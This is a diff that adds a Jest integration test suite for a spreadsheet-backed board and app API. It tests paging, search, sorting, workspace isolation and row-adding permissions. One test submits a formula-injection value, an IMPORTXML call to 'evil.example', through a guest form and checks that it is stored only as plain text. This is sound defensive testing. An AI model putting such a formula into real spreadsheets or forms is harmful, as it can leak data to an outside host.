@@ -1,0 +1,548 @@
+import { afterAll, beforeAll, beforeEach, describe, expect, it, jest } from '@jest/globals';
+import type { NestFastifyApplication } from '@nestjs/platform-fastify';
+import { createGateway } from '@tessera/gateway';
+import {
+  loadConfig,
+  openDatabase,
+  resetDatabase,
+  schema,
+  testDatabaseAdapters,
+  type Database,
+  type DatabaseHandle,
+} from '@tessera/platform';
+import {
+  buildXlsx,
+  createApp,
+  createBlock,
+  createBoard,
+  createOwnerSession,
+  createPage,
+  type OwnerSession,
+} from '@tessera/testing';
+import { eq } from 'drizzle-orm';
+import { SpreadsheetsService } from '../spreadsheets.service.js';
+
+// Jest reads testTimeout only from the root config, so hooks on a busy machine need their own.
+const HOOK_TIMEOUT = 120_000;
+jest.setTimeout(60_000);
+
+type SheetAnswer = {
+  title: string;
+  columns: string[];
+  rows: Record<string, string>[];
+  total: number;
+  page: number;
+  page_size: number;
+};
+
+const products = Array.from({ length: 25 }, (_, i) => ({
+  Name: `Product ${i + 1}`,
+  Category: i % 2 === 0 ? 'Lamps' : 'Chairs',
+  Price: String((i * 7) % 30),
+}));
+
+describe.each(testDatabaseAdapters('sheet_data'))('sheet data on %s', (_kind, options) => {
+  let handle: DatabaseHandle;
+  let db: Database;
+  let app: NestFastifyApplication;
+  let owner: OwnerSession;
+  let spreadsheetId: string;
+
+  beforeAll(async () => {
+    handle = await openDatabase(await options());
+    db = handle.db;
+    app = await createGateway(loadConfig({ LOG_LEVEL: 'silent' }), handle);
+    await app.init();
+    await app.getHttpAdapter().getInstance().ready();
+  }, HOOK_TIMEOUT);
+  afterAll(async () => {
+    await app.close();
+    await handle.close();
+  }, HOOK_TIMEOUT);
+  beforeEach(async () => {
+    await resetDatabase(db);
+    owner = await createOwnerSession(db);
+    spreadsheetId = await importShop(owner.workspaceId);
+  }, HOOK_TIMEOUT);
+
+  async function importShop(workspaceId: string): Promise<string> {
+    const bytes = await buildXlsx([
+      {
+        title: 'Products',
+        rows: [
+          ['Name', 'Category', 'Price'],
+          ...products.map((p) => [p.Name, p.Category, Number(p.Price)]),
+        ],
+      },
+      {
+        title: 'Store Locations',
+        rows: [
+          ['Store', 'City'],
+          ['North', 'Oslo'],
+        ],
+      },
+    ]);
+    const imported = await app
+      .get(SpreadsheetsService)
+      .importWorkbook(workspaceId, { fileName: 'Shop.xlsx', bytes });
+    return imported.id;
+  }
+
+  const read = (url: string, headers: Record<string, string> = {}) =>
+    app.inject({ method: 'GET', url, headers });
+  const boardSheet = (title: string, query = '') =>
+    `/api/board/${spreadsheetId}/sheet/${encodeURIComponent(title)}${query}`;
+
+  describe('GET /api/board/:spreadsheetId/sheet/:sheetTitle', () => {
+    it('serves a page of rows, _id first, to a member, accepting the global parameters', async () => {
+      const res = await read(
+        boardSheet(
+          'Products',
+          '?page=1&page_size=10&board=%2Fshop&referer=http%3A%2F%2Flocalhost%3A3000%2Fshop&_id=x&_email=&_filters=&block_id=b1&_vercel_no_cache=1&unknown=1',
+        ),
+        { cookie: owner.cookie },
+      );
+      expect(res.statusCode).toBe(200);
+      const body = res.json<SheetAnswer>();
+      expect(body).toMatchObject({
+        title: 'Products',
+        columns: ['Name', 'Category', 'Price'],
+        total: 25,
+        page: 1,
+        page_size: 10,
+      });
+      expect(body.rows).toHaveLength(10);
+      expect(Object.keys(body.rows[0]!)).toEqual(['_id', 'Name', 'Category', 'Price']);
+      expect(body.rows.map((r) => r['Name'])).toEqual(products.slice(0, 10).map((p) => p.Name));
+      expect(new Set(body.rows.map((r) => r['_id'])).size).toBe(10);
+    });
+
+    it('pages in sheet order and answers an empty page past the end', async () => {
+      const page3 = (
+        await read(boardSheet('Products', '?page=3&page_size=10'), { cookie: owner.cookie })
+      ).json<SheetAnswer>();
+      expect(page3.rows.map((r) => r['Name'])).toEqual(products.slice(20).map((p) => p.Name));
+      const page9 = (
+        await read(boardSheet('Products', '?page=9&page_size=10'), { cookie: owner.cookie })
+      ).json<SheetAnswer>();
+      expect(page9).toMatchObject({ rows: [], total: 25, page: 9 });
+      const bad = await read(boardSheet('Products', '?page=0'), { cookie: owner.cookie });
+      expect(bad.statusCode).toBe(400);
+    });
+
+    it('searches all values, case-insensitive, any of comma-separated terms', async () => {
+      const res = await read(boardSheet('Products', '?search=product%2012,%20PRODUCT%203'), {
+        cookie: owner.cookie,
+      });
+      const body = res.json<SheetAnswer>();
+      expect(body.rows.map((r) => r['Name']).sort()).toEqual(['Product 12', 'Product 3']);
+      expect(body.total).toBe(2);
+      const chairs = (
+        await read(boardSheet('Products', '?search=chairs&page_size=5'), { cookie: owner.cookie })
+      ).json<SheetAnswer>();
+      expect(chairs.total).toBe(12);
+      expect(chairs.rows).toHaveLength(5);
+    });
+
+    it('sorts numbers by value, ascending or descending', async () => {
+      const prices = (answer: SheetAnswer) => answer.rows.map((r) => Number(r['Price']));
+      const up = (
+        await read(boardSheet('Products', '?sort=Price&page_size=100'), { cookie: owner.cookie })
+      ).json<SheetAnswer>();
+      expect(prices(up)).toEqual([...prices(up)].sort((a, b) => a - b));
+      const down = (
+        await read(boardSheet('Products', '?sort=-Price&page_size=100'), { cookie: owner.cookie })
+      ).json<SheetAnswer>();
+      expect(prices(down)).toEqual([...prices(up)].reverse());
+      expect(down.total).toBe(25);
+      const unknown = await read(boardSheet('Products', '?sort=Colour'), { cookie: owner.cookie });
+      expect(unknown.statusCode).toBe(400);
+      expect(unknown.json()).toMatchObject({
+        message: 'Sheet "Products" has no column "Colour" to sort by.',
+      });
+    });
+
+    it('reads a sheet whose title has spaces, and names an unknown sheet', async () => {
+      const res = await read(boardSheet('Store Locations'), { cookie: owner.cookie });
+      expect(res.json<SheetAnswer>().rows).toEqual([
+        { _id: expect.any(String), Store: 'North', City: 'Oslo' },
+      ]);
+      const missing = await read(boardSheet('Nope'), { cookie: owner.cookie });
+      expect(missing.statusCode).toBe(404);
+      expect(missing.json()).toMatchObject({ message: 'Sheet "Nope" not found.' });
+    });
+
+    it('serves guests only through a public board that uses the spreadsheet', async () => {
+      const publicBoard = await createBoard(db, {
+        workspaceId: owner.workspaceId,
+        spreadsheetId,
+        slug: 'shop',
+        public: true,
+      });
+      const privateBoard = await createBoard(db, {
+        workspaceId: owner.workspaceId,
+        spreadsheetId,
+        slug: 'private-shop',
+      });
+      const otherSheet = await importShop(owner.workspaceId);
+      const unrelated = await createBoard(db, {
+        workspaceId: owner.workspaceId,
+        spreadsheetId: otherSheet,
+        slug: 'other',
+        public: true,
+      });
+
+      const ok = await read(boardSheet('Products', `?board=%2F${publicBoard.slug}`));
+      expect(ok.statusCode).toBe(200);
+      expect(ok.json<SheetAnswer>().total).toBe(25);
+
+      for (const query of [
+        '',
+        `?board=%2F${privateBoard.slug}`,
+        `?board=%2F${unrelated.slug}`,
+        '?board=%2Fnothing',
+      ]) {
+        const refused = await read(boardSheet('Products', query));
+        expect(refused.statusCode).toBe(404);
+        expect(refused.json()).toMatchObject({ message: 'Sheet not found.' });
+      }
+    });
+
+    it("never serves another workspace's spreadsheet, and does not reveal whether it exists", async () => {
+      const stranger = await createOwnerSession(db);
+      const theirs = await read(boardSheet('Products'), { cookie: stranger.cookie });
+      const nothing = await read('/api/board/no-such-id/sheet/Products', {
+        cookie: stranger.cookie,
+      });
+      for (const res of [theirs, nothing]) {
+        expect(res.statusCode).toBe(404);
+        expect(res.json()).toMatchObject({ message: 'Sheet not found.' });
+      }
+      // A public board of theirs naming our spreadsheet does not open it either.
+      await createBoard(db, {
+        workspaceId: stranger.workspaceId,
+        spreadsheetId,
+        slug: 'sneaky',
+        public: true,
+      });
+      const sneaky = await read(boardSheet('Products', '?board=%2Fsneaky'));
+      expect(sneaky.statusCode).toBe(404);
+      expect(sneaky.json()).toMatchObject({ message: 'Sheet not found.' });
+    });
+  });
+
+  describe('GET /v3/api/page/sheet/:sheetTitle', () => {
+    const pageSheet = (title: string, query = '') =>
+      `/v3/api/page/sheet/${encodeURIComponent(title)}${query}`;
+
+    it("serves the sheet of a public app's spreadsheet on the app's host", async () => {
+      await createApp(db, {
+        workspaceId: owner.workspaceId,
+        spreadsheetId,
+        name: 'shop',
+        public: true,
+      });
+      const res = await read(pageSheet('Products', '?page_size=5&sort=-Name'), {
+        host: 'shop.localhost:3000',
+      });
+      expect(res.statusCode).toBe(200);
+      const body = res.json<SheetAnswer>();
+      expect(body.total).toBe(25);
+      expect(body.rows.map((r) => r['Name'])).toEqual([
+        'Product 25',
+        'Product 24',
+        'Product 23',
+        'Product 22',
+        'Product 21',
+      ]);
+    });
+
+    it("serves a private app only to its owners' app-editor sessions for that app", async () => {
+      const shop = await createApp(db, {
+        workspaceId: owner.workspaceId,
+        spreadsheetId,
+        name: 'shop',
+      });
+      const other = await createApp(db, {
+        workspaceId: owner.workspaceId,
+        spreadsheetId,
+        name: 'other',
+      });
+      const shopEditor = await createOwnerSession(db, {
+        workspaceId: owner.workspaceId,
+        appId: shop.id,
+      });
+      const otherEditor = await createOwnerSession(db, {
+        workspaceId: owner.workspaceId,
+        appId: other.id,
+      });
+      const host = 'shop.localhost:3000';
+
+      expect(
+        (await read(pageSheet('Products'), { host, cookie: shopEditor.cookie })).statusCode,
+      ).toBe(200);
+      const refusedHeaders: Record<string, string>[] = [
+        { host },
+        { host, cookie: otherEditor.cookie },
+        { host, cookie: owner.cookie },
+      ];
+      for (const headers of refusedHeaders) {
+        const refused = await read(pageSheet('Products'), headers);
+        expect(refused.statusCode).toBe(404);
+        expect(refused.json()).toMatchObject({ message: 'Sheet not found.' });
+      }
+    });
+
+    it('resolves no app on the dashboard host, www, or an unknown app', async () => {
+      await createApp(db, {
+        workspaceId: owner.workspaceId,
+        spreadsheetId,
+        name: 'shop',
+        public: true,
+      });
+      for (const host of [
+        'localhost:3000',
+        'www.localhost:3000',
+        'nope.localhost:3000',
+        '123.localhost:3000',
+      ]) {
+        const res = await read(pageSheet('Products'), { host });
+        expect(res.statusCode).toBe(404);
+      }
+    });
+  });
+
+  describe('adding rows', () => {
+    const addBoardRow = (slug: string | null, body: unknown, cookie?: string) =>
+      app.inject({
+        method: 'POST',
+        url: `${boardSheet('Products')}/rows${slug ? `?board=%2F${slug}` : ''}`,
+        headers: cookie ? { cookie } : {},
+        payload: body as Record<string, unknown>,
+      });
+
+    async function rowsOfProducts() {
+      return db
+        .select({ position: schema.sheetRows.position, values: schema.sheetRows.values })
+        .from(schema.sheetRows)
+        .innerJoin(schema.sheets, eq(schema.sheets.id, schema.sheetRows.sheetId))
+        .where(eq(schema.sheets.spreadsheetId, spreadsheetId))
+        .orderBy(schema.sheetRows.position)
+        .then((rows) => rows.filter((r) => 'Price' in r.values));
+    }
+
+    async function publicBoardWith(type: string, settings: Record<string, unknown>) {
+      const board = await createBoard(db, {
+        workspaceId: owner.workspaceId,
+        spreadsheetId,
+        slug: 'shop',
+        public: true,
+      });
+      const blockId = await createBlock(db, {
+        workspaceId: owner.workspaceId,
+        boardId: board.id,
+        type,
+        settings: { sheet_title: 'Products', ...settings },
+      });
+      return { board, blockId };
+    }
+
+    it("adds a guest's form row as plain text, visible in the next read", async () => {
+      const { blockId } = await publicBoardWith('form', {});
+      const formula = '=IMPORTXML("https://evil.example","//a")';
+      const res = await addBoardRow('shop', {
+        block_id: blockId,
+        values: { Name: formula, Price: '+1+2' },
+      });
+      expect(res.statusCode).toBe(201);
+      const { row } = res.json<{ row: Record<string, string> }>();
+      expect(row).toEqual({ _id: expect.any(String), Name: formula, Category: '', Price: '+1+2' });
+
+      const stored = await rowsOfProducts();
+      expect(stored.at(-1)).toEqual({
+        position: 26,
+        values: { Name: formula, Category: '', Price: '+1+2' },
+      });
+      const [sheet] = await db
+        .select()
+        .from(schema.sheets)
+        .where(eq(schema.sheets.title, 'Products'));
+      expect(sheet?.rowCount).toBe(26);
+      const events = await db
+        .select()
+        .from(schema.outbox)
+        .where(eq(schema.outbox.name, 'sheet.row-added'));
+      expect(events.map((e) => e.payload)).toEqual([
+        {
+          workspaceId: owner.workspaceId,
+          spreadsheetId,
+          sheetTitle: 'Products',
+          rowId: row['_id'],
+        },
+      ]);
+
+      const next = (
+        await read(boardSheet('Products', '?board=%2Fshop&page=3&page_size=10'))
+      ).json<SheetAnswer>();
+      expect(next.total).toBe(26);
+      expect(next.rows.at(-1)).toEqual(row);
+    });
+
+    it('refuses unknown columns and empty rows, storing nothing', async () => {
+      const { blockId } = await publicBoardWith('form', {});
+      const unknown = await addBoardRow('shop', {
+        block_id: blockId,
+        values: { Name: 'x', Colour: 'red', _id: 'mine' },
+      });
+      expect(unknown.statusCode).toBe(400);
+      expect(unknown.json()).toMatchObject({
+        message: 'Sheet "Products" has no columns "Colour", "_id".',
+      });
+      const empty = await addBoardRow('shop', { block_id: blockId, values: { Name: '  ' } });
+      expect(empty.statusCode).toBe(400);
+      expect(empty.json()).toMatchObject({ message: 'Fill in at least one field.' });
+      const invalid = await addBoardRow('shop', { values: { Name: 'x' } });
+      expect(invalid.statusCode).toBe(400);
+      expect(await rowsOfProducts()).toHaveLength(25);
+    });
+
+    it('lets tables and lists add rows as their add_new_row permission says', async () => {
+      const board = await createBoard(db, {
+        workspaceId: owner.workspaceId,
+        spreadsheetId,
+        slug: 'shop',
+        public: true,
+      });
+      const block = (type: string, add_new_row?: string) =>
+        createBlock(db, {
+          workspaceId: owner.workspaceId,
+          boardId: board.id,
+          type,
+          settings: { sheet_title: 'Products', ...(add_new_row ? { add_new_row } : {}) },
+        });
+      const values = { Name: 'New' };
+      const cases: [string, string | undefined, string | undefined, number][] = [
+        ['table', undefined, undefined, 403],
+        ['table', 'None', owner.cookie, 403],
+        ['table', 'Admins', undefined, 403],
+        ['table', 'Admins', owner.cookie, 201],
+        ['list', 'Admins & Guests', undefined, 201],
+        ['table', 'Everyone', undefined, 201],
+        ['chart', 'Everyone', undefined, 403],
+      ];
+      for (const [type, permission, cookie, status] of cases) {
+        const res = await addBoardRow(
+          'shop',
+          { block_id: await block(type, permission), values },
+          cookie,
+        );
+        expect([type, permission, Boolean(cookie), res.statusCode]).toEqual([
+          type,
+          permission,
+          Boolean(cookie),
+          status,
+        ]);
+        if (status === 403)
+          expect(res.json()).toMatchObject({
+            message: 'You are not allowed to add rows to this sheet.',
+          });
+      }
+      expect(await rowsOfProducts()).toHaveLength(28);
+    });
+
+    it('refuses blocks of other boards or sheets, and guests of private boards', async () => {
+      const { blockId } = await publicBoardWith('form', {});
+      const elsewhere = await createBoard(db, {
+        workspaceId: owner.workspaceId,
+        spreadsheetId,
+        slug: 'elsewhere',
+        public: true,
+      });
+      const foreign = await addBoardRow('elsewhere', { block_id: blockId, values: { Name: 'x' } });
+      expect(foreign.statusCode).toBe(404);
+      expect(foreign.json()).toMatchObject({ message: 'Block not found.' });
+      expect(
+        (await addBoardRow(null, { block_id: blockId, values: { Name: 'x' } })).statusCode,
+      ).toBe(404);
+
+      const storesForm = await createBlock(db, {
+        workspaceId: owner.workspaceId,
+        boardId: elsewhere.id,
+        type: 'form',
+        settings: { sheet_title: 'Store Locations' },
+      });
+      expect(
+        (await addBoardRow('elsewhere', { block_id: storesForm, values: { Name: 'x' } }))
+          .statusCode,
+      ).toBe(403);
+
+      const hidden = await createBoard(db, {
+        workspaceId: owner.workspaceId,
+        spreadsheetId,
+        slug: 'hidden',
+      });
+      const hiddenForm = await createBlock(db, {
+        workspaceId: owner.workspaceId,
+        boardId: hidden.id,
+        type: 'form',
+        settings: { sheet_title: 'Products' },
+      });
+      const guest = await addBoardRow('hidden', { block_id: hiddenForm, values: { Name: 'x' } });
+      expect(guest.statusCode).toBe(404);
+      expect(guest.json()).toMatchObject({ message: 'Sheet not found.' });
+      expect(
+        (await addBoardRow('hidden', { block_id: hiddenForm, values: { Name: 'x' } }, owner.cookie))
+          .statusCode,
+      ).toBe(201);
+      expect(await rowsOfProducts()).toHaveLength(26);
+    });
+
+    it("adds a row from a form on a page of the host's app only", async () => {
+      const shop = await createApp(db, {
+        workspaceId: owner.workspaceId,
+        spreadsheetId,
+        name: 'shop',
+        public: true,
+      });
+      const other = await createApp(db, {
+        workspaceId: owner.workspaceId,
+        spreadsheetId,
+        name: 'other',
+        public: true,
+      });
+      const home = await createPage(db, { workspaceId: owner.workspaceId, appId: shop.id });
+      const otherHome = await createPage(db, { workspaceId: owner.workspaceId, appId: other.id });
+      const form = await createBlock(db, {
+        workspaceId: owner.workspaceId,
+        pageId: home,
+        type: 'form',
+        settings: { sheet_title: 'Products' },
+      });
+      const otherForm = await createBlock(db, {
+        workspaceId: owner.workspaceId,
+        pageId: otherHome,
+        type: 'form',
+        settings: { sheet_title: 'Products' },
+      });
+      const post = (blockId: string) =>
+        app.inject({
+          method: 'POST',
+          url: '/v3/api/page/sheet/Products/rows',
+          headers: { host: 'shop.localhost:3000' },
+          payload: { block_id: blockId, values: { Name: 'From the app', Price: '5' } },
+        });
+      const added = await post(form);
+      expect(added.statusCode).toBe(201);
+      expect(added.json()).toMatchObject({
+        row: { Name: 'From the app', Category: '', Price: '5' },
+      });
+      expect((await post(otherForm)).statusCode).toBe(404);
+      const read26 = (
+        await read('/v3/api/page/sheet/Products?search=from%20the%20app', {
+          host: 'shop.localhost:3000',
+        })
+      ).json<SheetAnswer>();
+      expect(read26.rows).toEqual([added.json<{ row: Record<string, string> }>().row]);
+    });
+  });
+});
